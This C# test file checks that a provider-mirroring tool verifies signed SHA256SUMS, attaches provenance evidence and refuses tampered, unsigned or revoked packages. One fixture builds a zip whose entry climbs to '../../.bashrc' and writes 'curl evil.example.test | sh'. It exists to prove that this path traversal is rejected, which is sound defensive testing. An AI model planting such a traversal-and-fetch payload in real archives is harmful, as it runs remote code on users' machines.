using System;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Threading.Tasks;
using Microsoft.VisualStudio.TestTools.UnitTesting;
using TofuMirror.Engine.Provenance;
using TofuMirror.Engine.Providers;
using TofuMirror.Model.Versions;
using TofuMirror.Oci.Content;
using TofuMirror.Testing.OpenPgp;
using TofuMirror.Testing.Origin;
using TofuMirror.Testing.Registry;
using TofuMirror.Testing.Tools;
using static TofuMirror.Cli.Tests.SignedOriginScenario;

namespace TofuMirror.Cli.Tests;

/// <summary>
/// <c>tofu-mirror mirror</c> from an origin provider registry (a loopback origin reached as <c>registry.example.test</c>
/// through a <c>host</c> block, SHA256SUMS signed by a test author) into the real registry.
/// </summary>
[TestClass]
public sealed class MirrorFromOriginTests
{
    private const string Skopeo = "/usr/bin/skopeo";
    private static readonly ClassRegistry s_registry = new();

    [ClassCleanup]
    public static void Stop() => s_registry.Dispose();

    private static Task<SignedOriginScenario> ScenarioAsync(Action<OriginLayoutBuilder>? configure = null)
    {
        return SignedOriginScenario.CreateAsync(s_registry.Process.Host, configure);
    }

    [TestMethod]
    public async Task OneCommand_FillsAnEmptyRegistry_ThreeProvidersFourPlatformsSigned_WithEvidence_ThenARerunUploadsNothing()
    {
        await using var scenario = await ScenarioAsync();

        var run = await scenario.MirrorAsync();

        Assert.AreEqual(0, run.ExitCode, run.ToString());
        var versions = run.Json.GetProperty("versions").EnumerateArray().ToList();
        CollectionAssert.AreEqual(new[] { Alpha.ToString(), Beta.ToString(), Gamma.ToString() }, versions.Select(v => v.GetProperty("provider").GetString()).ToArray());
        using var source = scenario.Source(s_registry.Process.Host);
        foreach (var version in versions)
        {
            var type = version.GetProperty("provider").GetString()!.Split('/')[^1];
            Assert.AreEqual(ReleaseVersion, version.GetProperty("version").GetString());
            var platforms = version.GetProperty("platforms").EnumerateArray().ToList();
            CollectionAssert.AreEqual(FourPlatforms, platforms.Select(p => p.GetProperty("platform").GetString()).ToArray());
            foreach (var platform in platforms)
            {
                var zip = scenario.Layout.Zips[(type, ReleaseVersion, platform.GetProperty("platform").GetString()!)];
                Assert.AreEqual("fetched", platform.GetProperty("status").GetString());
                Assert.AreEqual("sha256:" + Hex(SHA256.HashData(zip)), platform.GetProperty("digest").GetString(), "pushed byte for byte");
                Assert.AreEqual(scenario.Key.KeyId, platform.GetProperty("signingKeyId").GetString());
            }

            // The evidence hangs off the tagged index: the origin's signed SHA256SUMS, byte for byte, and its key.
            var provider = Model.Addresses.ProviderAddress.Parse(version.GetProperty("provider").GetString()!);
            var store = Store(source, provider);
            var (index, _) = await ProviderArtifactResolver.ReadIndexAsync(store, ProviderVersion.Parse(ReleaseVersion), default);
            Assert.AreEqual(version.GetProperty("indexDigest").GetString(), index.Digest.ToString());
            var evidence = (await new ProvenanceStore(store).FindAsync(index.Digest, default)).Single().Evidence;
            CollectionAssert.AreEqual(File.ReadAllBytes(scenario.File(ShaSumsPath(type))), evidence.ShaSums);
            CollectionAssert.AreEqual(File.ReadAllBytes(scenario.File(ShaSumsPath(type) + ".sig")), evidence.Signature);
            CollectionAssert.AreEqual(new[] { scenario.Key.KeyId }, evidence.KeyIds.ToArray());
            StringAssert.Contains(Encoding.UTF8.GetString(evidence.PublicKeys), "BEGIN PGP PUBLIC KEY BLOCK");
            Assert.AreEqual(provider.ToString(), evidence.Provider);
            StringAssert.EndsWith(evidence.OriginUrl, ShaSumsPath(type));
            // SHA256SUMS and its signature were fetched once for the version, not once per platform.
            Assert.AreEqual(1, scenario.Origin.Requests("/" + ShaSumsPath(type)).Count());
            Assert.AreEqual(1, scenario.Origin.Requests("/" + ShaSumsPath(type) + ".sig").Count());
        }

        scenario.Requests.Clear();
        var zipsBefore = scenario.Origin.Log.Count(a => a.Path.EndsWith(".zip", StringComparison.Ordinal));
        var again = await scenario.MirrorAsync();

        Assert.AreEqual(0, again.ExitCode, again.ToString());
        Assert.IsTrue(again.Json.GetProperty("versions").EnumerateArray().SelectMany(v => v.GetProperty("platforms").EnumerateArray())
            .All(p => p.GetProperty("status").GetString() == "skipped"), again.Out);
        CollectionAssert.AreEqual(versions.Select(v => v.GetProperty("indexDigest").GetString()).ToArray(),
            again.Json.GetProperty("versions").EnumerateArray().Select(v => v.GetProperty("indexDigest").GetString()).ToArray());
        Assert.AreEqual(0, scenario.Writes().Count, "the registry saw no write: " + string.Join(", ", scenario.Writes()));
        Assert.AreEqual(zipsBefore, scenario.Origin.Log.Count(a => a.Path.EndsWith(".zip", StringComparison.Ordinal)), "no package downloaded again");
    }

    [TestMethod]
    public async Task TheEvidence_IsAReferrerOfTheIndex_ThatSkopeoSeesUnderTheSha256Tag()
    {
        ExternalTool.Require(Skopeo, "skopeo");
        await using var scenario = await ScenarioAsync();
        var run = await scenario.MirrorProviderAsync(Alpha + "@1.0.0", "--platform", "linux_amd64");
        Assert.AreEqual(0, run.ExitCode, run.ToString());
        var indexDigest = Digest.Parse(run.Json.GetProperty("versions").EnumerateArray().Single(v => v.GetProperty("provider").GetString() == Alpha.ToString())
            .GetProperty("indexDigest").GetString()!);
        using var source = scenario.Source(s_registry.Process.Host);
        var store = Store(source, Alpha);
        var attached = (await new ProvenanceStore(store).ListAsync(indexDigest, default)).Single();

        // The test registry keeps the referrers list under the OCI 1.1 fallback tag sha256-<hex of the index digest>.
        var reference = $"docker://{s_registry.Process.Host}/{scenario.Prefix}/{Host}/acme/alpha";
        var byTag = ExternalTool.Run(Skopeo, new[] { "inspect", "--raw", "--tls-verify=false", reference + ":sha256-" + indexDigest.Hex });
        var manifest = ExternalTool.Run(Skopeo, new[] { "inspect", "--raw", "--tls-verify=false", reference + "@" + attached.Digest });

        Assert.AreEqual(0, manifest.Code, manifest.Stderr);
        using var json = JsonDocument.Parse(manifest.Stdout);
        Assert.AreEqual(EvidenceFormat.ArtifactType, json.RootElement.GetProperty("artifactType").GetString());
        Assert.AreEqual(indexDigest.ToString(), json.RootElement.GetProperty("subject").GetProperty("digest").GetString());
        Assert.AreEqual(0, byTag.Code, byTag.Stderr);
        StringAssert.Contains(byTag.Stdout, attached.Digest.ToString(), "the fallback tag lists the evidence");
    }

    [TestMethod]
    public async Task AMirrorFilledWithoutEvidence_GetsItOnARerun_WithoutDownloadingAnyPackage()
    {
        await using var scenario = await ScenarioAsync();
        // As an older tofu-mirror filled it: the same packages, pushed without evidence (from a providers-mirror folder).
        var folder = scenario.Temp.CreateDirectory("old-folder", Host, "acme", "alpha");
        foreach (var platform in FourPlatforms)
            File.WriteAllBytes(Path.Combine(folder, $"terraform-provider-alpha_{ReleaseVersion}_{platform}.zip"), scenario.Layout.Zips[("alpha", ReleaseVersion, platform)]);
        var old = await scenario.MirrorProviderAsync(Alpha + "@1.0.0", "--from-folder", "old-folder");
        Assert.AreEqual(0, old.ExitCode, old.ToString());
        var indexDigest = Digest.Parse(old.Json.GetProperty("versions").EnumerateArray().Single().GetProperty("indexDigest").GetString()!);
        using var source = scenario.Source(s_registry.Process.Host);
        var store = Store(source, Alpha);
        Assert.AreEqual(0, (await new ProvenanceStore(store).ListAsync(indexDigest, default)).Count, "a folder gives no evidence");

        var rerun = await scenario.MirrorProviderAsync(Alpha + "@1.0.0");

        Assert.AreEqual(0, rerun.ExitCode, rerun.ToString());
        var platforms = rerun.Json.GetProperty("versions").EnumerateArray().Single().GetProperty("platforms").EnumerateArray().ToList();
        Assert.IsTrue(platforms.All(p => p.GetProperty("status").GetString() == "skipped"), rerun.Out);
        Assert.IsTrue(platforms.All(p => p.GetProperty("signingKeyId").GetString() == scenario.Key.KeyId), rerun.Out);
        Assert.AreEqual(0, scenario.Origin.Log.Count(a => a.Path.EndsWith(".zip", StringComparison.Ordinal)), "the present layers were checked by digest, not downloaded");
        var evidence = (await new ProvenanceStore(store).FindAsync(indexDigest, default)).Single().Evidence;
        CollectionAssert.AreEqual(File.ReadAllBytes(scenario.File(ShaSumsPath("alpha"))), evidence.ShaSums);

        scenario.Requests.Clear();
        var third = await scenario.MirrorProviderAsync(Alpha + "@1.0.0");
        Assert.AreEqual(0, third.ExitCode, third.ToString());
        Assert.AreEqual(0, scenario.Writes().Count, "evidence present: nothing attached again: " + string.Join(", ", scenario.Writes()));
    }

    [TestMethod]
    public async Task TheTextReport_NamesTheSigningKey_AsOpenTofuDoes()
    {
        await using var scenario = await ScenarioAsync();

        var run = await CliRun.RunAsync(scenario.Temp.Path, false, scenario.Variables,
            "mirror", Gamma + "@1.0.0", "--platform", "linux_amd64", "--repository-template", scenario.Template, "--cache", "cache");

        Assert.AreEqual(0, run.ExitCode, run.ToString());
        StringAssert.Contains(run.Error, "linux_amd64", run.Error);
        StringAssert.Contains(run.Error, "(signed, key ID " + scenario.Key.KeyId + ")", run.Error);
    }

    /// <summary>Each refusal exits 1 with its code, and the registry sees no write at all: nothing of the version is pushed.</summary>
    [TestMethod]
    [DataRow("tampered zip", "TOFU0201")]
    [DataRow("tampered SHA256SUMS", "TOFU0202")]
    [DataRow("signed by an unknown key", "TOFU0202")]
    [DataRow("shasum differs from the SHA256SUMS line", "TOFU0201")]
    [DataRow("packages map inconsistent", "TOFU0205")]
    [DataRow("no signing keys", "TOFU0204")]
    [DataRow("expired key, enforced", "TOFU0203")]
    [DataRow("zip answers 404", "TOFU0211")]
    [DataRow("zip answers 500", "TOFU0214")]
    [DataRow("SHA256SUMS answers 404", "TOFU0211")]
    [DataRow("signed zip with an entry outside its folder", "TOFU0107")]
    [DataRow("signing key revoked by its owner", "TOFU0202")]
    public async Task ARefusal_ExitsOne_WithItsCode_AndPushesNothingOfTheVersion(string fault, string code)
    {
        var extra = Array.Empty<string>();
        await using var scenario = await ScenarioAsync(layout =>
        {
            if (fault == "packages map inconsistent") layout.WithPackagesMap = true;
            if (fault == "signed zip with an entry outside its folder")
                layout.ZipOf = (type, version, platform) => type == "alpha" && platform == "linux_arm64" ? EscapingZip() : OriginLayoutBuilder.ProviderZip(type, version, platform);
        });
        switch (fault)
        {
            case "tampered zip":
                File.WriteAllBytes(scenario.File(ZipPath("alpha", "linux_arm64")), scenario.Layout.Zips[("beta", ReleaseVersion, "linux_arm64")]);
                break;
            case "tampered SHA256SUMS":
                File.AppendAllText(scenario.File(ShaSumsPath("alpha")), new string('0', 64) + "  terraform-provider-alpha_1.0.0_plan9_amd64.zip\n");
                break;
            case "signed by an unknown key":
                File.WriteAllBytes(scenario.File(ShaSumsPath("alpha") + ".sig"),
                    TestSigningKey.Get("someone-else").SignDetached(File.ReadAllBytes(scenario.File(ShaSumsPath("alpha")))));
                break;
            case "shasum differs from the SHA256SUMS line":
                scenario.EditDownload("acme", "alpha", "darwin_arm64", json => json["shasum"] = Hex(SHA256.HashData(scenario.Layout.Zips[("beta", ReleaseVersion, "darwin_arm64")])));
                break;
            case "packages map inconsistent":
                scenario.EditDownload("acme", "alpha", "windows_amd64", json => json["packages"]!["windows_amd64"]!["package_size"] = 1);
                break;
            case "no signing keys":
                foreach (var platform in FourPlatforms)
                    scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"] = new System.Text.Json.Nodes.JsonObject { ["gpg_public_keys"] = new System.Text.Json.Nodes.JsonArray() });
                break;
            case "expired key, enforced":
                var expired = TestSigningKey.Expired();
                File.WriteAllBytes(scenario.File(ShaSumsPath("alpha") + ".sig"),
                    expired.SignDetached(File.ReadAllBytes(scenario.File(ShaSumsPath("alpha"))), DateTime.UtcNow.AddDays(-9.5)));
                foreach (var platform in FourPlatforms)
                    scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"]!["gpg_public_keys"]![0]!["ascii_armor"] = expired.ArmoredPublicKey);
                extra = ["--enforce-gpg-expiration"];
                break;
            case "signing key revoked by its owner":
                foreach (var platform in FourPlatforms)
                    scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"]!["gpg_public_keys"]![0]!["ascii_armor"] = scenario.Key.ArmoredRevokedPublicKey());
                break;
            case "zip answers 404":
                scenario.Origin.Faults["/" + ZipPath("alpha", "linux_amd64")] = new OriginFault(Status: 404);
                break;
            case "zip answers 500":
                scenario.Origin.Faults["/" + ZipPath("alpha", "windows_amd64")] = new OriginFault(Status: 500);
                break;
            case "SHA256SUMS answers 404":
                scenario.Origin.Faults["/" + ShaSumsPath("alpha")] = new OriginFault(Status: 404);
                break;
        }

        var run = await scenario.MirrorProviderAsync(Alpha + "@1.0.0", extra);

        Assert.AreEqual(1, run.ExitCode, run.ToString());
        var version = run.Json.GetProperty("versions").EnumerateArray().Single();
        Assert.AreEqual(code, version.GetProperty("error").GetString(), run.ToString());
        Assert.IsTrue(run.Json.GetProperty("diagnostics").EnumerateArray().Any(d => d.GetProperty("code").GetString() == code), run.Out);
        Assert.IsTrue(version.GetProperty("platforms").EnumerateArray().All(p => p.GetProperty("status").GetString() == "failed"), run.Out);
        Assert.AreEqual(0, scenario.Writes().Count, "nothing pushed: " + string.Join(", ", scenario.Writes()));
    }

    /// <summary>A zip whose author signed it, but that restore would refuse: one entry climbs out of the package folder.</summary>
    private static byte[] EscapingZip()
    {
        var bytes = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(bytes, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = new StreamWriter(zip.CreateEntry("../../.bashrc").Open()))
            entry.Write("curl evil.example.test | sh\n");
        return bytes.ToArray();
    }

    [TestMethod]
    public async Task ANetworkMirror_IsASource_ItsHashesChecked_AndNoSignatureClaimed()
    {
        await using var scenario = await ScenarioAsync();

        var run = await scenario.MirrorAsync("--network-mirror", scenario.Origin.BaseUrl + "mirror/", "--platform", "linux_amd64", "--platform", "darwin_arm64");

        Assert.AreEqual(0, run.ExitCode, run.ToString());
        var platforms = run.Json.GetProperty("versions").EnumerateArray().SelectMany(v => v.GetProperty("platforms").EnumerateArray()).ToList();
        Assert.AreEqual(6, platforms.Count);
        Assert.IsTrue(platforms.All(p => p.GetProperty("status").GetString() == "fetched" && p.GetProperty("signingKeyId").ValueKind == JsonValueKind.Null), run.Out);
        StringAssert.Contains(platforms[0].GetProperty("sourceUrl").GetString(), scenario.Origin.BaseUrl + "files/");
        Assert.IsFalse(scenario.Origin.Log.Any(a => a.Path.StartsWith("/v1/providers/", StringComparison.Ordinal)), "the registry protocol was not used");

        // A network mirror whose zip does not match its zh: is refused.
        scenario.Requests.Clear();
        File.WriteAllBytes(scenario.File(ZipPath("alpha", "linux_arm64")), scenario.Layout.Zips[("beta", ReleaseVersion, "linux_arm64")]);
        var tampered = await scenario.MirrorProviderAsync(Alpha + "@1.0.0", "--network-mirror", scenario.Origin.BaseUrl + "mirror/", "--platform", "linux_arm64");
        Assert.AreEqual(1, tampered.ExitCode, tampered.ToString());
        StringAssert.Contains(tampered.Out, "TOFU0241");
        Assert.AreEqual(0, scenario.Writes().Count, string.Join(", ", scenario.Writes()));
    }

    [TestMethod]
    public async Task AnExpiredKey_IsAWarning_UnlessEnforcedByTheEnvironment()
    {
        await using var scenario = await ScenarioAsync();
        var expired = TestSigningKey.Expired();
        File.WriteAllBytes(scenario.File(ShaSumsPath("alpha") + ".sig"),
            expired.SignDetached(File.ReadAllBytes(scenario.File(ShaSumsPath("alpha"))), DateTime.UtcNow.AddDays(-9.5)));
        foreach (var platform in FourPlatforms)
            scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"]!["gpg_public_keys"]![0]!["ascii_armor"] = expired.ArmoredPublicKey);

        var enforced = await CliRun.RunAsync(scenario.Temp.Path, false,
            new System.Collections.Generic.Dictionary<string, string?> { ["TF_CLI_CONFIG_FILE"] = scenario.CliConfig, ["OPENTOFU_ENFORCE_GPG_EXPIRATION"] = "true" },
            "mirror", Alpha + "@1.0.0", "--platform", "linux_amd64", "--repository-template", scenario.Template, "--json", "--cache", "cache");
        Assert.AreEqual(1, enforced.ExitCode, enforced.ToString());
        Assert.AreEqual("TOFU0203", enforced.Json.GetProperty("versions")[0].GetProperty("error").GetString());
        Assert.AreEqual(0, scenario.Writes().Count);

        var run = await scenario.MirrorProviderAsync(Alpha + "@1.0.0", "--platform", "linux_amd64");

        Assert.AreEqual(0, run.ExitCode, run.ToString());
        Assert.AreEqual(expired.KeyId, run.Json.GetProperty("versions")[0].GetProperty("platforms")[0].GetProperty("signingKeyId").GetString());
        StringAssert.Contains(run.Json.GetProperty("warnings")[0].GetString(), "expired", run.Out);
    }

    [TestMethod]
    public async Task RegistryOpenTofuOrg_WithoutKeys_IsAWarning_AnErrorWithEnforceGpgValidation()
    {
        await using var scenario = await ScenarioAsync();
        // registry.opentofu.org, served by the loopback origin through a host block.
        File.AppendAllText(scenario.CliConfig,
            $"host \"registry.opentofu.org\" {{\n  services = {{\n    \"providers.v1\" = \"{scenario.Origin.BaseUrl}v1/providers/\"\n  }}\n}}\n");
        foreach (var platform in FourPlatforms)
            scenario.EditDownload("acme", "alpha", platform, json => json["signing_keys"] = new System.Text.Json.Nodes.JsonObject { ["gpg_public_keys"] = new System.Text.Json.Nodes.JsonArray() });

        var enforced = await scenario.MirrorProviderAsync("acme/alpha@1.0.0", "--platform", "linux_amd64", "--enforce-gpg-validation");
        Assert.AreEqual(1, enforced.ExitCode, enforced.ToString());
        Assert.AreEqual("TOFU0204", enforced.Json.GetProperty("versions")[0].GetProperty("error").GetString());
        Assert.AreEqual(0, scenario.Writes().Count);

        var run = await scenario.MirrorProviderAsync("acme/alpha@1.0.0", "--platform", "linux_amd64");

        Assert.AreEqual(0, run.ExitCode, run.ToString());
        var platform0 = run.Json.GetProperty("versions")[0].GetProperty("platforms")[0];
        Assert.AreEqual("fetched", platform0.GetProperty("status").GetString());
        Assert.AreEqual(JsonValueKind.Null, platform0.GetProperty("signingKeyId").ValueKind, "nothing was signed");
        StringAssert.Contains(run.Json.GetProperty("warnings")[0].GetString(), "cannot be checked against a signature", run.Out);
    }

    private static string Hex(byte[] hash) => Convert.ToHexString(hash).ToLowerInvariant();
}
